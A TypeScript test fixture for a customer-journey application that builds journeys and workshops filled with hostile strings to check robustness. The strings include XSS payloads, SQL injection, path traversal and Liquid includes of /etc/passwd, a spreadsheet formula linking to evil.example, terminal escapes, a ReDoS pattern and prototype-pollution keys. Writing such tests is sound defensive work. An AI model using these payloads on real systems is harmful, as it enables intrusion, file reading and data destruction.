import { FORMAT, FORMAT_VERSION } from '../journey.ts'

/**
 * Texts that have broken programs: somebody can paste each of them wherever a journey holds text. None is longer than a
 * name may be, so that all of them can stand everywhere.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  'an image that runs a script': '<img src=x onerror=window.hacked=1>',
  'the end of a script': '</script><script>window.hacked=1</script>',
  'a script address': 'javascript:window.hacked=1',
  'quotes and brackets': `"'\`><]]>--></textarea>`,
  'the end of a comment': '*/ throw 1 /* ',
  'a line break in a comment': 'one\ntwo\rthree\u2028four\u2029five',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what is hostile about it
  'a template literal': '${globalThis.hacked = 1}`${1}`',
  'words of a replacement': "$& $1 $` $' $$ $<name>",
  'words of a translation': '$t(common:port.next) {{count}} {name} {0} %s %d',
  'Liquid that fills in': '{{ customer.email }}{{ "a" | append: "b" }}',
  'Liquid that never ends': '{% for i in (1..100000000) %}{% for j in (1..100000000) %}x{% endfor %}{% endfor %}',
  'Liquid that reads files': "{% include '/etc/passwd' %}{% render '../secret' %}",
  'Liquid that is broken': '{{ {% }} %} {{{{ {%-',
  'the prototype': '__proto__',
  'a constructor': 'constructor',
  'an inherited method': 'hasOwnProperty',
  'writing from right to left': 'عربة متروكة — שלום',
  'a turned file name': 'invoice\u202Egnp.exe',
  'an isolate that is not closed': '\u2067abc',
  'characters of four bytes': '𝕬😀👩‍👩‍👧🇲🇽',
  'half a character': 'a\uD83Db',
  'stacked marks': `Z${'\u0300\u0301\u0302'.repeat(20)}`,
  'invisible characters': 'a\u200B\u00AD\uFEFFb',
  'the character nought': 'a\u0000b',
  'orders to a terminal': '\u001B]0;owned\u0007\u001B[2J\u009B31m\r\u0008',
  'a query for a database': `'; DROP TABLE journeys; --`,
  'a formula': '=HYPERLINK("http://evil.example","x")',
  'a way up': '../../../../etc/passwd',
  'a slow pattern': `${'a'.repeat(60)}!((a+)+)+$`,
  'an address with spaces': `http://evil.example/${'%20'.repeat(20)}{{ customer.email }}`,
}

/** Keys that every object inherits: refused where keys are looked up. */
export const RESERVED_KEYS: ReadonlySet<string> = new Set(['__proto__', 'constructor', 'hasOwnProperty'])

/** The text as the name of an event or attribute: one that is reserved stands behind a word, and stars are left out. */
export const keyWith = (text: string): string => (RESERVED_KEYS.has(text) ? `my ${text}` : text.replaceAll('*', '+'))

/**
 * A journey, as raw JSON, that runs, and says this text wherever text can stand: names, labels, keys of data, values of
 * rules, reasons, message texts, addresses, headers. Only ids are its own.
 */
export function hostileJourney(text: string): Record<string, unknown> {
  const key = keyWith(text)
  const rule = (field: string, value: unknown) => ({ combinator: 'and', rules: [{ field, operator: '!=', value }] })
  let y = 0
  const node = (kind: string, config: unknown) => {
    y += 120
    return { kind, name: text, position: { x: 0, y }, stage: 'stage', config }
  }
  return {
    format: FORMAT,
    formatVersion: FORMAT_VERSION,
    id: 'hostile',
    name: text,
    description: text,
    timeZone: 'UTC',
    attributes: { [key]: { label: text, type: 'text', values: [text], personal: true } },
    events: { [key]: { label: text, properties: { [key]: { label: text, type: 'text', values: [text] } } } },
    stages: { stage: { name: text, order: 1 } },
    settings: {
      reentry: { mode: 'once' },
      exitRules: { x1: { event: key, where: rule(`event.${key}`, text), reason: text } },
      goals: { g1: { name: text, event: key, value: { property: key }, primary: true } },
    },
    variants: {
      v1: {
        name: text,
        purpose: 'realistic',
        nodes: {
          start: node('entry', { trigger: { type: 'manual' } }),
          set: node('update', { set: [{ attribute: key, op: 'set', value: text }] }),
          tell: node('emit', { event: key, properties: { [key]: text } }),
          which: node('split', { branches: { b1: { name: text, order: 1, where: rule(`customer.${key}`, text) } } }),
          arms: node('experiment', {
            arms: { a1: { name: text, weight: 1 }, a2: { name: text, weight: 1, control: true } },
            goal: 'g1',
          }),
          mail: node('message', { channel: 'email', subject: text, body: text }),
          wait: node('waitFor', { branches: { b1: { name: text, event: key } }, timeout: 'P1D' }),
          call: node('webhook', { method: 'POST', url: text, headers: { [key]: text }, body: text }),
          ask: node('task', { team: 'care', instructions: text, within: 'P1D' }),
          end: node('exit', { reason: text }),
        },
        edges: Object.fromEntries(
          [
            'start.next > set',
            'set.next > which',
            'which.b1 > arms',
            'which.else > arms',
            'arms.a1 > mail',
            'arms.a2 > wait',
            'mail.next > wait',
            'wait.b1 > call',
            'wait.timeout > call',
            'call.ok > ask',
            'call.error > end',
            'ask.done > tell',
            'ask.expired > tell',
            'tell.next > end',
          ].map((way, index) => {
            const [from = '', port = '', to = ''] = way.split(/[.>]/).map((part) => part.trim())
            return [`e${index + 1}`, { from, port, to }]
          }),
        ),
        notes: { note: { text, position: { x: 300, y: 0 } } },
        groups: { group: { name: text, nodes: ['mail', 'wait'] } },
      },
    },
    mainVariant: 'v1',
    scenarios: {
      s1: {
        name: text,
        variant: 'v1',
        customers: 40,
        start: '2026-01-05T00:00:00Z',
        horizon: 'P10D',
        population: { attributes: { [key]: { dist: 'category', weights: { [key]: 1 } } } },
        behaviour: {
          segments: [{ name: text, where: rule(`customer.${key}`, text), multiply: { open: 1 } }],
          events: { often: { event: key, type: 'rate', perDay: 0.2 } },
        },
      },
    },
    workshop: hostileWorkshop(text),
  }
}

/** A workshop, as raw JSON, that says this text wherever somebody can write in it. */
function hostileWorkshop(text: string): Record<string, unknown> {
  const experience = { text, emotion: 1, within: 'PT5M', likelihood: 0.5, evidence: 'data' }
  return {
    persona: { name: text, goal: text, quote: text },
    actions: { a1: { name: text, order: 1, votes: [text], also: [text], author: text } },
    steps: {
      p1: {
        action: 'a1',
        order: 1,
        name: text,
        stage: 'stage',
        touchpoint: keyWith(text),
        channel: 'email',
        place: 'offline',
        owner: text,
        nodes: ['mail'],
        expectation: experience,
        reality: { ...experience, emotion: -2 },
        pains: [text],
        backstage: [text],
      },
    },
    opportunities: {
      o1: {
        step: 'p1',
        name: text,
        dream: text,
        realistic: text,
        effort: 2.5,
        impact: 4,
        votes: [text],
        feasibility: [{ id: 'q1', question: text, answer: 'unknown', owner: text }],
        variant: 'v1',
        dreamVariant: 'v1',
        decision: text,
        owner: text,
        due: '2026-12-01',
      },
    },
    session: { current: 'reality', action: 'a1', dots: 3, guide: { reality: { done: true, notes: text } } },
    board: {
      stickies: { k1: { x: 0, y: 0, step: 'p1', lane: 'pains', text, author: text } },
      images: { k1: { x: 0, y: 0, width: 1, height: 1, data: 'data:image/png;base64,AAAA', alt: text } },
      stamps: { k1: { x: 0, y: 0, emoji: '🙂', author: text } },
      strokes: { k1: { points: [0, 0, 1, 1], width: 2, author: text } },
    },
  }
}
